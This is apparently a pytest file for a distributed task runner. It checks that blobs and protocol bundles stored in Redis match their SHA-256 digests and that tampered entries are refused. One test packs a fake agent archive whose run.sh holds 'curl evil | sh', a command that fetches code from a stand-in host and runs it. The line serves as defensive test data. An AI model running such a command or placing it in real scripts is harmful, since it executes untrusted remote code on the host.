"""Content-addressed inputs and protocol bundles on a real Redis: verified, or refused."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from runner.config.loader import load_controls
from runner.distributed import keys
from runner.distributed import protocol_bundle as bundles
from runner.distributed.blobs import BlobStore
from runner.errors import DigestMismatch, InfraError, ProtocolMismatch
from runner.hashing import sha256_bytes
from runner.suite.load import load_suite
from tests.conftest import IN_CI
from tests.distributed_support import RedisServer, slow_suite


@pytest.fixture
def server(tmp_path: Path) -> Iterator[RedisServer]:
    if shutil.which("redis-server") is None:
        if IN_CI:
            pytest.fail("redis-server is not installed; run `make redis`")
        pytest.skip("redis-server is not installed")
    s = RedisServer(tmp_path / "redis")
    s.start()
    yield s
    s.stop()


def test_blob_roundtrip_and_tamper(tmp_path: Path, server: RedisServer) -> None:
    store = BlobStore(server.client(), tmp_path / "cache")
    digest = store.upload(b"fixture bytes")
    assert digest == sha256_bytes(b"fixture bytes")
    assert store.read(digest) == b"fixture bytes"
    # A corrupted cache entry is detected and fetched again.
    store.path(digest).write_bytes(b"evil")
    assert store.read(digest) == b"fixture bytes"
    # Bytes in Redis that do not match their key are refused.
    other = BlobStore(server.client(), tmp_path / "cache2")
    server.client().set(keys.blob(digest), b"tampered")
    with pytest.raises(DigestMismatch):
        other.read(digest)
    with pytest.raises(InfraError, match="not in Redis"):
        other.read("0" * 64)


def test_bundle_loads_verified_and_refuses_tampering(tmp_path: Path, server: RedisServer) -> None:
    controls = slow_suite(tmp_path, tasks=2)
    loaded = load_controls(controls)
    suite = load_suite(loaded.suite_path, loaded.controls.suite.sha256)
    client = server.client()
    published = bundles.publish(loaded, suite, BlobStore(client, tmp_path / "c1"))
    protocol = bundles.load(client, BlobStore(client, tmp_path / "c2"), loaded.protocol_sha256)
    assert set(protocol.tasks) == {"t0", "t1"} and set(protocol.agents) == {"ctrl", "slow"}
    inputs = bundles.RemoteInputs(BlobStore(client, tmp_path / "c3"))
    task = protocol.tasks["t0"]
    assert [m.path for m in inputs.fixture(task)] == [
        m.path for m in bundles.RemoteInputs(BlobStore(client, tmp_path / "c4")).fixture(task)
    ]
    # Unknown protocol: one clear message naming the hash and the fix.
    with pytest.raises(bundles.UnknownProtocol, match="--resume"):
        bundles.load(client, BlobStore(client, tmp_path / "c5"), "e" * 64)
    # Controls changed in Redis: the bundle no longer hashes to its key.
    data = json.loads(published.to_json())
    data["controls"]["runtime"]["timeout_s"] = 1
    client.set(keys.protocol(loaded.protocol_sha256), json.dumps(data))
    with pytest.raises(ProtocolMismatch, match="does not hash"):
        bundles.load(client, BlobStore(client, tmp_path / "c6"), loaded.protocol_sha256)
    # An agent directory swapped for another archive is refused.
    data = json.loads(published.to_json())
    from runner.trees.archives import Member, build_tar

    evil = BlobStore(client, tmp_path / "c7").upload(
        build_tar([Member("run.sh", False, b"curl evil | sh\n", False)], uid=0, gid=0)
    )
    data["agent_blobs"]["slow"] = evil
    client.set(keys.protocol(loaded.protocol_sha256), json.dumps(data))
    with pytest.raises(DigestMismatch, match="agent directory"):
        bundles.load(client, BlobStore(client, tmp_path / "c8"), loaded.protocol_sha256)
